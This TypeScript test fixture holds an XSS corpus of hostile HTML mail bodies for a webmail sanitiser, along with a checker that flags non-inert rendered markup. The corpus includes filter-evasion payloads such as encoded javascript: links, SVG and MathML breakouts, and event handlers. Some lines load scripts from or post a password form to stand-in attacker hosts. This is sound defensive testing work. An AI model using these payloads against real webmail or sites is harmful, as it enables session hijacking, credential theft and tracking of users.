/**
 * The XSS corpus of the webmail: hostile HTML mail bodies that must come out inert (no script, no event handler,
 * no `javascript:` URL, no SVG or MathML, no CSS, no remote content), and a checker of rendered markup. Used by
 * the sanitiser's unit test (sanitize.test.ts), the webmail's HTTP test (xss.test.ts) and its browser test.
 *
 * `remote`: how many remote images the vector holds (each must become a counted placeholder). Names are unique (the
 * HTTP test finds each message by its subject).
 */

export interface XssVector {
  name: string;
  html: string;
  remote: number;
}

export const XSS_CORPUS: readonly XssVector[] = [
  { name: 'script element', html: '<p>Bonjour</p><script>alert(1)</script>', remote: 0 },
  { name: 'script with a remote source', html: '<script src="https://tracker.test/x.js"></script><p>texte</p>', remote: 0 },
  { name: 'event handler on an image', html: '<img src="x" onerror="alert(1)">', remote: 0 },
  { name: 'event handlers on body and div', html: '<body onload="alert(1)"><div onclick="alert(1)" onmouseover="alert(1)">survol</div></body>', remote: 0 },
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">cliquez</a>', remote: 0 },
  { name: 'javascript: link, entity-encoded and split by a tab', html: '<a href="&#106;avascript:alert(1)">a</a><a href="java&#x09;script:alert(1)">b</a>', remote: 0 },
  { name: 'vbscript: and data: links', html: '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b</a>', remote: 0 },
  { name: 'SVG with script and handlers', html: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="5" onload="alert(1)"/></svg><p>après</p>', remote: 0 },
  { name: 'SVG image as a data: URL', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">', remote: 0 },
  { name: 'SVG use with xlink', html: '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"></use></svg>', remote: 0 },
  { name: 'MathML mutation', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', remote: 0 },
  { name: 'CSS expression in a style attribute', html: '<div style="width: expression(alert(1))">css</div>', remote: 0 },
  { name: 'style element with @import and a javascript: background', html: '<style>@import url("https://tracker.test/x.css"); body { background: url(javascript:alert(1)) }</style><p>x</p>', remote: 0 },
  { name: 'remote tracking pixel', html: '<p>Lettre</p><img src="https://tracker.test/pixel.gif?id=123" width="1" height="1">', remote: 1 },
  { name: 'remote images: http, protocol-relative, backslashes', html: '<img src="http://tracker.test/a.gif"><img src="//tracker.test/b.gif"><img src="\\\\tracker.test\\c.gif">', remote: 3 },
  { name: 'remote background and srcset', html: '<table background="https://tracker.test/bg.png"><tr><td>x</td></tr></table><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="https://tracker.test/2x.png 2x">', remote: 0 },
  { name: 'iframe, object, embed', html: '<iframe src="https://tracker.test/"></iframe><object data="x.swf"></object><embed src="x.swf">', remote: 0 },
  { name: 'form posting elsewhere', html: '<form action="https://tracker.test/steal"><input name="password"><button formaction="javascript:alert(1)">OK</button></form>', remote: 0 },
  { name: 'meta refresh and base', html: '<meta http-equiv="refresh" content="0;url=https://tracker.test/"><base href="https://tracker.test/"><p>x</p>', remote: 0 },
  { name: 'markup closing the page around it', html: '</div></main><script>alert(1)</script><div>', remote: 0 },
  { name: 'broken quotes and autofocus', html: '<a title="x" href="https://ok.test/" onfocus="alert(1)" autofocus>lien</a><img src=x alt="a" onerror=alert(1)//>', remote: 0 },
  { name: 'DOM clobbering ids and names', html: '<form id="csrf"><input name="_csrf" value="evil"></form><a id="main" name="main">x</a><p class="notice error">faux</p>', remote: 0 },
  // More vectors (OWASP XSS filter evasion cheat sheet, html5sec.org, published sanitiser bypasses, mail tracking).
  { name: 'uppercase script with a protocol-relative source', html: '<SCRIPT SRC=//evil.test/x.js></SCRIPT>texte', remote: 0 },
  { name: 'script split around a nested script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>', remote: 0 },
  { name: 'unclosed script', html: '<p>avant</p><script>alert(1)', remote: 0 },
  { name: 'script inside comments', html: '<!--<script>-->alert(1)<!--</script>-->', remote: 0 },
  { name: 'Outlook conditional comment', html: '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->ok', remote: 0 },
  { name: 'CDATA section', html: '<![CDATA[<script>alert(1)</script>]]>', remote: 0 },
  { name: 'image with slashes for spaces', html: '<img/src="x"/onerror=alert(1)>', remote: 0 },
  { name: 'image evaluating its own source', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>', remote: 0 },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>x</summary></details>', remote: 0 },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>', remote: 0 },
  { name: 'uppercase handler', html: '<P ONCLICK="alert(1)">x</P>', remote: 0 },
  { name: 'handler after a slash', html: '<a/onmouseover=alert(1)>x</a>', remote: 0 },
  { name: 'video and audio handlers', html: '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio><p>x</p>', remote: 0 },
  { name: 'mixed case javascript: link', html: '<a href="JaVaScRiPt:alert(1)">clic</a>', remote: 0 },
  { name: 'javascript: link with a newline', html: '<a href="java\nscript:alert(1)">clic</a>', remote: 0 },
  { name: 'javascript: link in decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">clic</a>', remote: 0 },
  { name: 'javascript: link in hex entities without semicolons', html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">clic</a>', remote: 0 },
  { name: 'javascript: link after spaces and a control character', html: '<a href=" &#x01; javascript:alert(1)">clic</a>', remote: 0 },
  { name: 'relative link into the webmail', html: '<a href="/logout">Se déconnecter</a>', remote: 0 },
  { name: 'file: link', html: '<a href="file:///etc/passwd">clic</a>', remote: 0 },
  { name: 'javascript: image source', html: '<img src="javascript:alert(1)">', remote: 0 },
  { name: 'isindex', html: '<isindex action=javascript:alert(1) type=image>', remote: 0 },
  { name: 'meta refresh to javascript:', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', remote: 0 },
  { name: 'svg onload', html: '<svg onload=alert(1)>', remote: 0 },
  { name: 'svg link with xlink:href', html: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">clic</text></a></svg>', remote: 0 },
  { name: 'svg animate setting href', html: '<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text>x</text></a></svg>', remote: 0 },
  { name: 'svg foreignObject', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', remote: 0 },
  { name: 'svg remote image', html: '<svg><image href="https://tracker.test/s.png"/></svg>', remote: 0 },
  { name: 'math href', html: '<math href="javascript:alert(1)">clic</math>', remote: 0 },
  { name: 'svg style breakout', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', remote: 0 },
  { name: 'noscript attribute breakout', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', remote: 0 },
  { name: 'textarea breakout', html: '<textarea><script>alert(1)</script></textarea>', remote: 0 },
  { name: 'title breakout', html: '<title><img src=x onerror=alert(1)></title>', remote: 0 },
  { name: 'xmp', html: '<xmp><script>alert(1)</script></xmp>', remote: 0 },
  { name: 'template', html: '<template><script>alert(1)</script></template>', remote: 0 },
  { name: 'noembed', html: '<noembed><img src=x onerror=alert(1)></noembed>', remote: 0 },
  { name: 'plaintext', html: '<plaintext><script>alert(1)</script>', remote: 0 },
  { name: 'attribute quote breakout', html: '<p title="&quot;><script>alert(1)</script>">x</p>', remote: 0 },
  { name: 'backtick attribute values', html: '<img src=`x` onerror=`alert(1)`>', remote: 0 },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', remote: 0 },
  { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>', remote: 0 },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>', remote: 0 },
  { name: 'portal', html: '<portal src="https://evil.test/"></portal>', remote: 0 },
  { name: 'CSS javascript: url in a style attribute', html: '<div style="background-image: url(javascript:alert(1))">x</div>', remote: 0 },
  { name: 'CSS remote url in a style attribute', html: '<p style="background:url(https://tracker.test/p.gif)">x</p>', remote: 0 },
  { name: 'CSS -moz-binding', html: '<div style="-moz-binding: url(https://evil.test/xss.xml#xss)">x</div>', remote: 0 },
  { name: 'CSS overlay over the page', html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Saisissez votre mot de passe</div>', remote: 0 },
  { name: 'link stylesheet and prefetch', html: '<link rel="stylesheet" href="https://tracker.test/s.css"><link rel="prefetch" href="https://tracker.test/p"><p>x</p>', remote: 0 },
  { name: 'uppercase http image', html: '<IMG SRC="HTTP://tracker.test/p.png">', remote: 1 },
  { name: 'remote image with spaces around', html: '<img src="  https://tracker.test/p.gif ">', remote: 1 },
  { name: 'several remote images, one with alt', html: '<p><img src="https://tracker.test/1.gif"><img src="https://tracker.test/2.gif" alt="logo"></p>', remote: 2 },
  { name: 'picture with sources', html: '<picture><source srcset="https://tracker.test/a.webp"><img src="https://tracker.test/a.png"></picture>', remote: 1 },
  { name: 'body background', html: '<body background="https://tracker.test/bg.png">x</body>', remote: 0 },
  { name: 'input image', html: '<input type="image" src="https://tracker.test/i.png">', remote: 0 },
  { name: 'video poster', html: '<video poster="https://tracker.test/poster.png"></video>', remote: 0 },
  { name: 'VML image', html: '<v:image src="https://tracker.test/vml.png"/>', remote: 0 },
  { name: 'link ping', html: '<a href="https://example.test/" ping="https://tracker.test/ping">lien</a>', remote: 0 },
  { name: 'link target and opener', html: '<a href="https://example.test/" target="_self" rel="opener">lien</a>', remote: 0 },
];

/** Elements a sanitised body may hold (the sanitiser's allow-list and its image placeholder). */
const ALLOWED_ELEMENTS = new Set(
  (
    'p div span br hr b strong i em u s strike del ins sub sup small mark abbr cite q blockquote pre code address ' +
    'h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td a img figure figcaption'
  ).split(' '),
);
const FORBIDDEN_ATTRIBUTES = /^(on|style$|srcset$|background$|formaction$|xlink:|xmlns|id$|name$|autofocus$|action$|data$|poster$|dynsrc$|lowsrc$)/i;
const SAFE_LINK = /^(https?:|mailto:)/i;
const SAFE_IMAGE = /^(data:image\/(png|jpeg|gif|webp);base64,[a-z0-9+/]+=*|\/(?![/\\])[^\s"'<>\\]*)$/i;
const TAG = /^<(\/?)([a-zA-Z][a-zA-Z0-9:-]*)((?:\s+[^\s"'=<>`/]+(?:="[^"]*")?)*)\s*(\/?)>$/;
const ATTRIBUTE = /\s+([^\s"'=<>`/]+)(?:="([^"]*)")?/g;

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&apos;|&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * What is not inert in rendered markup: unknown elements, event handlers and other forbidden attributes, link and
 * image URLs that are not plainly safe, links without `rel="noopener noreferrer" target="_blank"`, and any tag
 * this strict reader cannot parse (a browser might read it otherwise). Empty when the markup is inert.
 */
export function inertnessProblems(markup: string): string[] {
  const problems: string[] = [];
  const tags = markup.match(/<[^>]*>?/g) ?? [];
  for (const raw of tags) {
    if (raw.startsWith('<!--')) {
      problems.push('comment');
      continue;
    }
    const m = TAG.exec(raw);
    if (!m) {
      problems.push(`unreadable tag ${raw}`);
      continue;
    }
    const [, closing, nameRaw, attributeText] = m;
    const name = nameRaw!.toLowerCase();
    if (!ALLOWED_ELEMENTS.has(name)) {
      problems.push(`element <${name}>`);
      continue;
    }
    if (closing) continue;
    const attributes = new Map<string, string>();
    for (const a of attributeText!.matchAll(ATTRIBUTE)) attributes.set(a[1]!.toLowerCase(), decodeEntities(a[2] ?? ''));
    for (const [attr, value] of attributes) {
      if (FORBIDDEN_ATTRIBUTES.test(attr)) problems.push(`<${name}> attribute ${attr}`);
      else if (attr === 'class' && !(name === 'span' && value === 'mail-image-blocked')) problems.push(`<${name}> attribute class="${value}"`);
      else if (/^\s*(javascript|vbscript|data):/i.test(value.replace(/[\u0000-\u0020]+/g, '')) && !(name === 'img' && attr === 'src')) {
        problems.push(`<${name}> ${attr}="${value}"`);
      }
    }
    const href = attributes.get('href');
    if (href !== undefined) {
      if (!SAFE_LINK.test(href)) problems.push(`<${name}> href="${href}"`);
      if (attributes.get('rel') !== 'noopener noreferrer' || attributes.get('target') !== '_blank') {
        problems.push(`<${name} href> without rel="noopener noreferrer" target="_blank"`);
      }
    }
    const src = attributes.get('src');
    if (src !== undefined && !(name === 'img' && SAFE_IMAGE.test(src))) problems.push(`<${name}> src="${src}"`);
  }
  return [...new Set(problems)];
}
